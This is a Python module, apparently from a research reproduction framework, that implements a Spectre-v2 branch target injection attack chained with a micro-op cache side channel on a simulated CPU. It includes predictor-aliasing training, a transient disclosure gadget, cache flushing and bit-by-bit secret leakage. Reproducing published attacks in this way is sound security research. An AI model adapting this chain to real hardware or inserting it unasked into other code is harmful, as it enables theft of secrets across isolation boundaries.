"""Branch target injection (Spectre-v2) chained with the micro-op
cache disclosure primitive.

Section VI-A closes with: "by combining our attack with Spectre-v2
(Branch Target Injection), we are also able to arbitrarily jump to
these gadgets while we are in the same address space."  This module
implements exactly that chain:

1. the victim exposes a *benign* indirect call (a handler dispatch);
2. the attacker owns a branch whose PC aliases the victim's call in
   the untagged indirect predictor, and trains it to point at a
   disclosure gadget elsewhere in the address space;
3. the attacker flushes the victim's handler-table entry so the call
   resolves late, then invokes the victim: transient fetch+execution
   follows the *injected* prediction into the gadget, which reads a
   secret bit and steers fetch through a tiger or zebra transmitter;
4. the squash erases everything architectural; the attacker reads the
   bit from the micro-op cache.

The victim never calls the gadget architecturally -- the paper's point
that gadget reachability is a predictor-state question, not a
control-flow-graph question.
"""

from __future__ import annotations

from typing import Optional

from repro.core.exploitgen import FootprintSpec, emit_chain, emit_probe, striped_sets
from repro.core.timing import ProbeTiming
from repro.cpu.config import CPUConfig
from repro.cpu.noise import NoiseModel
from repro.isa import encodings as enc
from repro.isa.assembler import Assembler
from repro.lint.gadgets import ChainClaim, PairClaim
from repro.lint.taint import SecretClaim
from repro.session import AttackSession, AttackStats

RECV_ARENA = 0x44_0000
TTIGER_ARENA = 0x48_0000
TZEBRA_ARENA = 0x4C_0000


class BranchTargetInjection(AttackSession):
    """Spectre-v2 + micro-op cache disclosure, same address space.

    ``secret`` lives in the victim's data; the victim's only indirect
    control flow is a handler dispatch that never touches it.  The
    gadget (think: one of the 100 the paper's taint analysis found) is
    reachable only transiently, through the poisoned predictor.
    """

    #: The indirect predictor indexes by the low bits of the branch PC;
    #: the attacker's training branch sits exactly this far from the
    #: victim's call so both select the same untagged slot.
    ALIAS_STRIDE = 1024 * 4096  # predictor entries * a page multiple

    def __init__(
        self,
        secret: bytes,
        nsets: int = 8,
        probe_ways: int = 8,
        transmit_ways: int = 3,
        samples: int = 4,
        config: Optional[CPUConfig] = None,
        noise: Optional[NoiseModel] = None,
    ):
        self.secret = secret
        self.nsets = nsets
        self.probe_ways = probe_ways
        self.transmit_ways = transmit_ways
        self.samples = samples
        super().__init__(config or CPUConfig.skylake(), noise)

    def setup(self) -> None:
        # the attacker aims its training branch at the gadget (re-aimed
        # after every reset, which re-images data memory)
        self.core.write_mem(
            self.core.addr_of("attacker_target"),
            self.core.addr_of("gadget"),
        )
        # sanity: the two branches really do alias in the predictor
        predictor = self.core.thread(0).predictor.indirect
        assert predictor.slot(self.core.addr_of("victim_call")) == \
            predictor.slot(self.core.addr_of("attacker_branch"))

    # ------------------------------------------------------------------

    def build_program(self):
        tiger_sets = striped_sets(self.nsets)
        stride = 32 // self.nsets
        zebra_sets = striped_sets(self.nsets, offset=max(1, stride // 2))
        asm = Assembler()
        asm.reserve("probe_result", 8)
        asm.reserve("secret", len(self.secret) + 8)
        asm.reserve("handler_table", 8)
        asm.reserve("attacker_target", 8)

        probe_spec = FootprintSpec(tiger_sets, self.probe_ways, RECV_ARENA)
        tiger_spec = FootprintSpec(
            tiger_sets, self.transmit_ways, TTIGER_ARENA,
            nops_per_region=1, lcp_per_nop=0, jmp_lcp=0,
        )
        zebra_spec = FootprintSpec(
            zebra_sets, self.transmit_ways, TZEBRA_ARENA,
            nops_per_region=1, lcp_per_nop=0, jmp_lcp=0,
        )
        emit_probe(asm, "probe", probe_spec, "probe_result")
        emit_chain(asm, "send_one_t", tiger_spec, exit_kind="ret")
        emit_chain(asm, "send_zero_t", zebra_spec, exit_kind="ret")
        self._claims = [
            ChainClaim("probe", probe_spec, "probe"),
            ChainClaim("send_one_t", tiger_spec, "tiger"),
            ChainClaim("send_zero_t", zebra_spec, "zebra"),
            PairClaim("send_one_t", "probe", "conflict"),
            PairClaim("send_zero_t", "probe", "disjoint"),
        ]

        # --- victim: a benign handler dispatch ------------------------
        asm.org(0x40_0040)
        asm.label("benign_handler")
        asm.emit(enc.alu_imm("add", "r6", 1))
        asm.emit(enc.ret())

        asm.align(64)
        asm.label("victim")  # r1 unused: no secret-dependent code here
        asm.emit(enc.mov_imm("r10", asm.resolve("handler_table"), width=64))
        asm.emit(enc.load("r5", "r10"))
        asm.label("victim_call")
        asm.emit(enc.call_ind("r5"))
        asm.emit(enc.ret())

        asm.align(64)
        asm.label("invoke_victim")
        asm.emit(enc.call("victim"))
        asm.emit(enc.halt())

        # --- the disclosure gadget (never called architecturally) -----
        # r2 = bit index (attacker-controlled register, as in real BTI
        # PoCs where the attacker prepares register state before the
        # victim entry point).
        asm.align(64)
        asm.label("gadget")
        asm.emit(enc.mov_imm("r9", asm.resolve("secret"), width=64))
        asm.emit(enc.load("r4", "r9", index="r1", size=1))
        asm.emit(enc.alu("shr", "r4", "r2"))
        asm.emit(enc.alu_imm("and", "r4", 1))
        asm.emit(enc.test_reg("r4", "r4"))
        asm.emit(enc.jcc("z", "g_zero"))
        asm.emit(enc.call("send_one_t"))
        asm.label("g_zero")
        asm.emit(enc.call("send_zero_t"))
        asm.emit(enc.ret())

        # --- attacker stubs -------------------------------------------
        asm.align(64)
        asm.label("flush_table")
        asm.emit(enc.mov_imm("r13", asm.resolve("handler_table"), width=64))
        asm.emit(enc.clflush("r13"))
        asm.emit(enc.halt())

        # place the trainer so its call_ind PC aliases victim_call's
        # slot in the untagged indirect predictor
        target_pc = asm.resolve("victim_call") + self.ALIAS_STRIDE
        # the call_ind uop must sit exactly at target_pc; the stub
        # preceding it loads the trained target.
        asm.org(target_pc - 17)
        asm.label("train")
        asm.emit(enc.mov_imm("r5", asm.resolve("attacker_target"), width=64))
        asm.emit(enc.load("r5", "r5"))
        asm.emit(enc.nop(3))
        asm.label("attacker_branch")
        asm.emit(enc.call_ind("r5"))  # jumps to the gadget (attacker code
        asm.emit(enc.halt())  # may call it architecturally: it is code
        # in the shared address space, like a kernel gadget reached by a
        # confused-deputy attacker)

        # The victim never reaches the gadget architecturally, but the
        # poisoned predictor does -- so the taint entry point is the
        # gadget itself, exactly how the paper's gadget scan treats
        # transiently reachable code.
        self._claims += [
            SecretClaim(
                name="secret", entry="gadget", label="secret",
                size=len(self.secret) + 8, leaks_to=("dsb", "itlb"),
            )
        ]

        return asm.assemble(entry="probe")

    # ------------------------------------------------------------------

    def _install_secret(self) -> None:
        base = self.core.addr_of("secret")
        for i, byte in enumerate(self.secret):
            self.core.write_mem(base + i, byte, size=1)
        self.core.write_mem(
            self.core.addr_of("handler_table"),
            self.core.addr_of("benign_handler"),
        )

    def _poison(self) -> None:
        """Train the shared predictor slot to point at the gadget.

        The attacker's training branch jumps to the gadget with its
        *own* calibration byte index, never touching the secret
        architecturally."""
        self._call("train", regs={"r1": len(self.secret), "r2": 0})

    def _episode(self, byte_index: int, bit: int) -> int:
        self._poison()
        self._call("probe")  # prime
        self._call("flush_table")
        self._call("invoke_victim", regs={"r1": byte_index, "r2": bit})
        return self._probe_time()

    def calibrate(self, rounds: int = 6) -> ProbeTiming:
        """Fit the threshold using a known calibration byte the
        attacker plants next to the secret (index len(secret))."""
        self._install_secret()
        cal_index = len(self.secret)
        self.core.write_mem(self.core.addr_of("secret") + cal_index, 0x01,
                            size=1)
        hits, misses = [], []
        for _ in range(rounds):
            hits.append(self._episode(cal_index, 1))  # bit1 of 0x01 = 0
            misses.append(self._episode(cal_index, 0))  # bit0 of 0x01 = 1
        return self._fit(hits, misses)

    def leak_bit(self, byte_index: int, bit: int) -> int:
        """Leak one secret bit through the injected gadget."""
        if self.classifier is None:
            self.calibrate()
        self._episode(byte_index, bit)  # warm the secret line
        samples = [
            self._episode(byte_index, bit) for _ in range(self.samples)
        ]
        return self.classifier.vote(samples)

    def leak(self, nbytes: Optional[int] = None) -> AttackStats:
        """Leak the secret bit by bit via branch target injection."""
        if self.classifier is None:
            self.calibrate()
        return self._leak(nbytes, 1, self.leak_bit)
